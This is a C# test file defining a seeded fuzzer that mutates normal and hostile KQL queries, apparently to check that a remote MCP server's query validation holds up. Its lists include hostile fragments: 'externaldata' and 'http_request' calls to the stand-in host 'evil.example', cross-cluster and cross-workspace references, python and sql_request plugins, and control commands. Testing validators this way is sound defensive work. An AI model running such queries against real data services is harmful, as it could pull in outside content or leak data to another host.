using System.Text.RegularExpressions;
using RemoteMcp.Testing.Azure;

namespace RemoteMcp.EndToEnd.Azure;

/// <summary>Creates queries from usual and hostile ones by random changes. The same seed creates the same queries.</summary>
internal sealed partial class KqlFuzzer(int seed)
{
    private static readonly string[] s_usual =
    [
        .. KqlQueries.Logs, .. KqlQueries.Resources,
        "union AppRequests, workspace('60000000-0000-4000-8000-000000000001').AppRequests | where app == 1 | summarize count() by resource",
        "AppRequests | join (workspace(\"60000000-0000-4000-8000-000000000001\").AppTraces | where Message has 'x') on OperationId",
    ];

    private static readonly string[] s_reaching =
    [
        "adx('help/Samples').T", "arg('').Resources", "cluster('x').database('y').T", "database('y').T", "external_table('t')",
        "workspace('60000000-0000-4000-8000-000000000002').T", "app('shop').requests", "resource('/subscriptions/x').Perf",
        "externaldata(a:string)['https://evil.example']", "external_data(a:string)[h@'https://evil.example'] with(format='txt')",
        "materialized_view('v')", "stored_query_result('r')", "table('t')", "saved('x')",
    ];

    private static readonly string[] s_operators =
    [
        "| evaluate http_request('https://evil.example')", "| evaluate sql_request('a', 'b')", "| evaluate python(typeof(*), 'x')",
        "| evaluate ai_embeddings(a, 'https://evil.example')", "| invoke f()", "| fork (take 1)", "| __executeAndCache", "| consume",
        "| scan declare (x:int) with (step s: true;)", "| make-graph a --> b", "| facet by a with (take 1)", "| assert-schema (a:int)",
        "; set notruncation; T", "; alias database d = cluster('x').database('y'); T", "; .show tables", "; declare pattern app; T",
    ];

    private static readonly string[] s_fragments =
    [
        "'", "\"", "@'", "@\"", "```", "~~~", "h'", "h@\"", "//", "\n", "\\", "''", "\"\"", "(", ")", "[", "]", "{", "}", "['", "']", ";",
        "|", ",", ".", "..", ":", "*", "=", "==", "=~", "!", "#", "@", "$", "`", "~", "<|", "&", "?", "-", " ", "\t", "\u00a0", "\u200b",
        "\u2003", "\u2028", "\ufeff", "\u180e", "\u0085", "datetime(", "long(", "int32(", "int64(", "int64(')",
        "timespan(", "guid(", "bool(", "dynamic(", "typeof(",
        "let f = ", "let f = (a:int) {", "union ", "set ", "on ", "by ", "with ", "in ", "in (", "to typeof(", "hint.remote=",
        "hint.strategy=", "kind=", "of ", "as ", "step ", "toscalar(", "materialize(", "view ", "range ", "print ", "datatable(a:int)[",
        "search ", "find ", "partition by ", "workspace(", "adx", "externaldata", "cluster", "evaluate ", "invoke ", "fork ", "scan",
        "facet", "consume",
        "invoke", "fork", "set", "alias", "declare", "restrict", "pattern", "entity_group", "__executeAndCache",
        "graph", "macro-expand", "make-graph", "graph-match", "0x", "1d", "1e5", "/", "/*", "*/", "--", "-->",
    ];

    private readonly Random _random = new(seed);

    /// <summary>Returns a new query.</summary>
    public string Next()
    {
        var query = _random.Next(8) == 0 ? Pick(KqlQueries.Hostile) : Pick(s_usual);
        for (var changes = _random.Next(1, 5); changes > 0; changes--)
        {
            query = Change(query);
        }

        return query;
    }

    private string Change(string query)
    {
        var tokens = Tokens().Matches(query);
        if (tokens.Count == 0)
        {
            return query + Pick(s_fragments);
        }

        var token = tokens[_random.Next(tokens.Count)];
        return _random.Next(12) switch
        {
            0 => query.Insert(_random.Next(query.Length + 1), Pick(s_fragments)),
            1 => query.Insert(token.Index, Pick(s_fragments)),
            2 => query.Insert(token.Index, Pick(s_reaching)),
            3 => query.Insert(token.Index + token.Length, Pick(s_operators)),
            4 => Replace(query, token, ""),
            5 => Replace(query, token, tokens[_random.Next(tokens.Count)].Value),
            6 => Replace(query, token, Pick(s_reaching)),
            7 => Replace(query, token, Quote(token.Value)),
            8 => Replace(query, token, token.Value + Pick(s_fragments) + token.Value),
            9 => Replace(query, token, Swap(token.Value)),
            10 => query[..token.Index] + Rest(Pick(s_usual)),
            _ => Replace(query, token, Pick(s_fragments)),
        };
    }

    private string Quote(string name) => _random.Next(4) switch
    {
        0 => $"['{name}']",
        1 => $"[\"{name}\"]",
        2 => $"[h'{name}']",
        _ => $"[@'{name}']",
    };

    private string Swap(string name) => _random.Next(3) switch
    {
        0 => name.ToUpperInvariant(),
        1 => new string([.. name.Reverse()]),
        _ => name + Pick(s_reaching),
    };

    private string Rest(string query)
    {
        var tokens = Tokens().Matches(query);
        return query[tokens[_random.Next(tokens.Count)].Index..];
    }

    private string Pick(IReadOnlyList<string> values) => values[_random.Next(values.Count)];

    private static string Replace(string query, Match token, string text) =>
        string.Concat(query.AsSpan(0, token.Index), text, query.AsSpan(token.Index + token.Length));

    [GeneratedRegex(@"[\w$-]+|\S")]
    private static partial Regex Tokens();
}
